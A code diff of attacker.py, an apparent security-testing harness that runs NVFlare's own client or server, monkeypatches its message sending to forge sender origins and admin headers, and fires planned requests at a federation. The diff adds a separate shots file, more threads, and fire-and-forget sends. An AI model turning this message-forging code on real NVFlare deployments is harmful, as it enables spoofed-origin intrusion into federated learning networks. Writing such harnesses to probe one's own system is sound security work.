@@ -1,7 +1,7 @@
 """A site, or a server, whose owner changed its software: NVFlare without any guard, and a plan of attack.
 
 Run as ``python attacker.py PLAN.json``. It starts NVFlare's own client (or server) on a kit, waits until that is
-connected, sends what the plan says through NVFlare's network, and writes the answers beside the plan.
+connected and PLAN.shots.json is there, sends what this says through NVFlare's network, and writes the answers.
 """
 
 from __future__ import annotations
@@ -21,12 +21,12 @@ def main(plan_file: Path) -> None:
     import nvflare.fuel.f3.cellnet.core_cell  # noqa: F401 - before there are two threads
 
     plan = json.loads(plan_file.read_text())
-    threading.Thread(target=attack, args=(plan, plan_file.with_suffix(".answers.json")), daemon=True).start()
+    threading.Thread(target=attack, args=(plan, plan_file), daemon=True).start()
     sys.argv = [plan["module"], *plan["arguments"]]
     runpy.run_module(plan["module"], run_name="__main__", alter_sys=True)
 
 
-def attack(plan: dict[str, Any], answers: Path) -> None:
+def attack(plan: dict[str, Any], plan_file: Path) -> None:
     from nvflare.fuel.f3.cellnet.core_cell import CoreCell
 
     while plan["me"] not in CoreCell.ALL_CELLS:
@@ -40,11 +40,15 @@ def attack(plan: dict[str, Any], answers: Path) -> None:
 
     CoreCell._send_to_endpoint = send_forged
     wait_until_connected(cell, plan)
-    with ThreadPoolExecutor(8) as pool:
-        found = list(pool.map(lambda shot: fire(cell, shot), plan["shots"]))
-    temporary = answers.with_suffix(".tmp")
+    while not plan_file.with_suffix(".shots.json").exists():
+        time.sleep(0.1)
+    shots = json.loads(plan_file.with_suffix(".shots.json").read_text())
+    with ThreadPoolExecutor(24) as pool:
+        found = list(pool.map(lambda shot: fire(cell, shot), shots))
+    time.sleep(3.0)  # until the last one was received
+    temporary = plan_file.with_suffix(".tmp")
     temporary.write_text(json.dumps(found))
-    temporary.replace(answers)
+    temporary.replace(plan_file.with_suffix(".answers.json"))
 
 
 def wait_until_connected(cell: Any, plan: dict[str, Any]) -> None:
@@ -64,6 +68,9 @@ def fire(cell: Any, shot: dict[str, Any]) -> dict[str, Any]:
         for key, value in shot.get("admin_headers", {}).items():
             payload.set_header(key, value)
     message = Message({**shot.get("headers", {}), "forged": shot.get("origin")}, payload)
+    if not shot.get("wait", True):
+        cell.fire_and_forget(channel=shot["channel"], topic=shot["topic"], targets=shot["target"], message=message)
+        return {}
     reply = cell.send_request(
         channel=shot["channel"], topic=shot["topic"], target=shot["target"], request=message, timeout=3.0
     )
